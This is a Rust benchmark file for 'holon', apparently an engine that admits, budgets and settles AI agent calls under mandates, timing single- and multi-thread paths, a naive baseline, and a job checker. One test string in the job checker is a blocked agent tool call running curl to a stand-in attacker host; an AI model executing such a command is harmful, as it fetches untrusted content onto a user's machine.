//! Admission benchmarks. Every figure in docs/PERFORMANCE.md comes from here or from
//! `holon loadtest`; the `naive` group is the baseline measured in the same run: the same
//! admission done with a `Mutex<HashMap>` ledger keyed by strings and rust_decimal
//! arithmetic per call.
//!
//! Run: `cargo bench --bench admission` (all) or `cargo bench --bench admission -- allowed`.

use std::collections::HashMap;
use std::hint::black_box;
use std::str::FromStr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use criterion::{Criterion, criterion_group, criterion_main};
// The fixture and the allowed path the CI gate measures too (benches/gate/).
#[path = "fixture.rs"]
mod fixture;
use fixture::{Fixture, admit_settle, call, fixture, fixture_with};
use holon::engine::{Admission, Call, Engine, EngineConfig, SubCall, synthetic};
use holon::money::Amount;
use rust_decimal::Decimal;

fn single_thread(c: &mut Criterion) {
    let f = fixture(100, 10);
    let allowed = call(&f, 0, 1);
    let denied = call(&f, 0, 8);
    let held = call(&f, 0, 9);
    let mut g = c.benchmark_group("single");
    g.bench_function("allowed/admit_settle", |b| b.iter(|| admit_settle(&f.engine, black_box(&allowed))));
    // The bare decision: the same engine shape with receipts discarded.
    let bare = Engine::new(EngineConfig::default());
    bare.publish(&f.net.input).unwrap();
    // Under a depth-2 sub-mandate (`m0/s1/s2`): judged and reserved on three ledgers.
    let mut chained =
        synthetic::network(&synthetic::Shape { agents: 100, mandates: 10, ..Default::default() }).unwrap();
    let deepest = synthetic::add_chain(&mut chained, 2).unwrap();
    let chain_engine = Engine::new(EngineConfig::default());
    chain_engine.publish(&chained.input).unwrap();
    let under_chain =
        Call::new(chain_engine.mandate_ix(&deepest).unwrap(), chain_engine.agent_ix("syn/a1").unwrap(), chained.at);
    g.bench_function("allowed/admit_settle_sub_mandate_depth2", |b| {
        b.iter(|| admit_settle(&chain_engine, black_box(&under_chain)))
    });
    g.bench_function("allowed/admit_settle_no_sink", |b| b.iter(|| admit_settle(&bare, black_box(&allowed))));
    g.bench_function("denied/admit", |b| {
        b.iter(|| assert!(matches!(f.engine.admit(black_box(&denied)), Admission::Denied(_))))
    });
    g.bench_function("held/admit_refuse", |b| {
        b.iter(|| match f.engine.admit(black_box(&held)) {
            Admission::Held(p) => f.engine.refuse(p.id).unwrap(),
            other => panic!("{other:?}"),
        })
    });
    // A sub-call of a delegated run: admitted against the run's ledger and settled.
    let orchestrator = call(&f, 0, 5);
    let Admission::Allowed(run) = f.engine.admit(&orchestrator) else { panic!("orchestrator not allowed") };
    let sub = SubCall { agent: allowed.agent, capability: Some("syn.leaf"), at: f.net.at };
    g.bench_function("delegated/sub_call_settle", |b| {
        b.iter(|| match run.sub_call(black_box(&sub)) {
            Admission::Allowed(r) => {
                let _ = black_box(r.settle(Amount::ZERO, sub.at));
            }
            other => panic!("{other:?}"),
        })
    });
    g.finish();
    drop(run);

    let naive = Naive::new(&f);
    let mut g = c.benchmark_group("naive");
    let at = f.net.at;
    g.bench_function("allowed/admit_settle", |b| {
        b.iter(|| naive.admit_settle(black_box("m0"), black_box("syn/a1"), at))
    });
    g.finish();
}

/// Runs `per_thread` admit+settle on each of `calls.len()` threads (each its engine and
/// call); returns the wall time. Criterion's figure is then time per operation in
/// aggregate (wall / (threads × ops)).
fn run_threads(calls: &[(&Engine, Call)], per_thread: u64) -> Duration {
    let start = Instant::now();
    std::thread::scope(|s| {
        for (engine, c) in calls {
            s.spawn(move || {
                for _ in 0..per_thread {
                    if let Admission::Allowed(r) = engine.admit(c) {
                        let _ = black_box(r.settle(Amount::ZERO, c.at));
                    }
                }
            });
        }
    });
    start.elapsed()
}

fn threads(c: &mut Criterion) {
    let f = fixture(100, 10);
    // The engine alone (receipts discarded): on a 2-core machine the receipt drain thread
    // takes its share of the same two cores. The `*_with_sink` pair shows that cost.
    let bare = Engine::new(EngineConfig::default());
    bare.publish(&f.net.input).unwrap();
    // The control: a second engine of its own, so the two threads share no memory at all.
    // Its scaling is the machine's ceiling for two threads (the two vCPUs may share a
    // physical core), against which the engine's figures are read.
    let other = Engine::new(EngineConfig::default());
    other.publish(&f.net.input).unwrap();
    let on = |engine: &Engine, mandate: usize, agent: usize| {
        let m = engine.mandate_ix(&format!("m{mandate}")).unwrap();
        Call::new(m, engine.agent_ix(&format!("syn/a{agent}")).unwrap(), f.net.at)
    };
    let one = [(&bare, on(&bare, 0, 1))];
    let hot = [(&bare, on(&bare, 0, 1)), (&bare, on(&bare, 0, 2))];
    let distinct = [(&bare, on(&bare, 0, 1)), (&bare, on(&bare, 1, 2))];
    let separate = [(&bare, on(&bare, 0, 1)), (&other, on(&other, 1, 2))];
    let one_sink = [(&f.engine, call(&f, 0, 1))];
    let distinct_sink = [(&f.engine, call(&f, 0, 1)), (&f.engine, call(&f, 1, 2))];
    // The batch sink (`receipt::BatchSink`): receipts handed over 64 at a time.
    let fb = fixture_with(100, 10, true);
    let one_batches = [(&fb.engine, call(&fb, 0, 1))];
    let distinct_batches = [(&fb.engine, call(&fb, 0, 1)), (&fb.engine, call(&fb, 1, 2))];
    let mut g = c.benchmark_group("threads");
    // Per-op aggregate time: a 2-thread figure half the 1-thread one is 2x throughput.
    let cases: [(&str, &[(&Engine, Call)]); 8] = [
        ("one_thread", &one),
        ("two_hot_mandate", &hot),
        ("two_distinct_mandates", &distinct),
        ("two_separate_engines", &separate),
        ("one_thread_with_sink", &one_sink),
        ("two_distinct_mandates_with_sink", &distinct_sink),
        ("one_thread_with_batches", &one_batches),
        ("two_distinct_mandates_with_batches", &distinct_batches),
    ];
    for (name, calls) in cases {
        g.bench_function(name, |b| {
            b.iter_custom(|iters| {
                let per_thread = iters.div_ceil(calls.len() as u64).max(1);
                run_threads(calls, per_thread)
            })
        });
    }
    g.finish();
}

fn publishing(c: &mut Criterion) {
    let f = fixture(100, 10);
    let allowed = call(&f, 0, 1);
    let stop = AtomicBool::new(false);
    let mut g = c.benchmark_group("publishing");
    std::thread::scope(|s| {
        s.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                f.engine.publish(&f.net.input).unwrap();
                std::thread::sleep(Duration::from_millis(1));
            }
        });
        g.bench_function("allowed/admit_settle_while_publishing_every_ms", |b| {
            b.iter(|| admit_settle(&f.engine, black_box(&allowed)))
        });
        stop.store(true, Ordering::Relaxed);
    });
    g.finish();
}

fn compile(c: &mut Criterion) {
    let net = synthetic::network(&synthetic::Shape { agents: 10_000, mandates: 10_000, ..Default::default() }).unwrap();
    let engine = Engine::new(EngineConfig::default());
    let mut g = c.benchmark_group("compile");
    g.sample_size(10);
    g.bench_function("10k_agents_10k_mandates", |b| b.iter(|| engine.publish(black_box(&net.input)).unwrap()));
    g.finish();
}

/// The baseline: the same admission done the naive way. Per call: look the mandate and
/// the agent up by string, compile them and run the rules with every reason explained in
/// sentences (`engine::Assessor`, what the CLI does), and reserve and settle in a
/// `Mutex<HashMap<String, _>>` ledger with rust_decimal arithmetic.
struct Naive {
    mandates: HashMap<String, Arc<holon::mandate::Mandate>>,
    agents: HashMap<String, (Arc<holon::manifest::Manifest>, Option<Arc<holon::record::AgentRecord>>)>,
    catalog: Arc<holon::engine::Snapshot>,
    /// (reserved, settled) per mandate.
    ledgers: std::sync::Mutex<HashMap<String, (Decimal, Decimal)>>,
}

impl Naive {
    fn new(f: &Fixture) -> Naive {
        let snap = f.engine.snapshot();
        let mandates = snap.mandates().map(|m| (m.source().id.clone(), Arc::new(m.source().clone()))).collect();
        let agents = snap
            .agents()
            .map(|a| (a.source().id.to_string(), (Arc::new(a.source().clone()), a.record().cloned().map(Arc::new))))
            .collect();
        Naive { mandates, agents, catalog: snap, ledgers: std::sync::Mutex::new(HashMap::new()) }
    }

    fn admit_settle(&self, mandate: &str, agent: &str, at: holon::time::Timestamp) {
        let m = &self.mandates[mandate];
        let (a, record) = &self.agents[agent];
        let dec = |x: Amount| Decimal::from_str(&x.to_string()).unwrap();
        let (reserved, settled) = self.ledgers.lock().unwrap().get(mandate).copied().unwrap_or_default();
        let spent = Amount::parse(&(reserved + settled).to_string()).unwrap_or(Amount::MAX);
        let ctx = holon::admission::CallContext {
            spent_total: spent,
            spent_today: spent,
            ..holon::admission::CallContext::at(at)
        };
        let assessment =
            holon::engine::Assessor::new(m, &*self.catalog).unwrap().assess(a, record.as_deref(), &ctx).unwrap();
        assert_eq!(assessment.verdict, holon::admission::Verdict::Allowed);
        let worst = dec(assessment.worst_case);
        {
            let mut ledgers = self.ledgers.lock().unwrap();
            let entry = ledgers.entry(mandate.to_owned()).or_insert((Decimal::ZERO, Decimal::ZERO));
            assert!(entry.0 + entry.1 + worst <= dec(m.budget.total), "budget");
            entry.0 += worst;
        }
        let mut ledgers = self.ledgers.lock().unwrap();
        let entry = ledgers.get_mut(mandate).unwrap();
        entry.0 -= worst;
        black_box(entry);
    }
}

/// `holon job check` in process: a call against a compiled job mandate (the golden
/// proposal of testdata/job), pre-parsed and from its JSON text.
fn job_check(c: &mut Criterion) {
    let text = std::fs::read_to_string("testdata/job/expected.yaml").unwrap();
    let mandate = holon::job::mandate::from_yaml(&text).unwrap();
    let checker = holon::job::Checker::compile(&mandate).unwrap();
    let allowed = r#"{"tool":"terminal","args":{"command":"git log --oneline -n 5 | grep -n fix"}}"#;
    let blocked = r#"{"tool":"terminal","args":{"command":"curl -s https://evil.example.com > /tmp/x"}}"#;
    let parsed = holon::job::call::parse(allowed).unwrap().relative_to(&mandate.workdir);
    let mut g = c.benchmark_group("job");
    g.bench_function("check_compiled", |b| b.iter(|| assert!(checker.failures(black_box(&parsed)).is_empty())));
    g.bench_function("parse_and_check_allowed", |b| {
        b.iter(|| {
            let call = holon::job::call::parse(black_box(allowed)).unwrap().relative_to(&mandate.workdir);
            assert!(checker.failures(&call).is_empty())
        })
    });
    g.bench_function("parse_and_check_blocked", |b| {
        b.iter(|| {
            let call = holon::job::call::parse(black_box(blocked)).unwrap().relative_to(&mandate.workdir);
            assert!(!checker.failures(&call).is_empty())
        })
    });
    g.finish();
}

criterion_group!(benches, single_thread, threads, publishing, compile, job_check);
criterion_main!(benches);
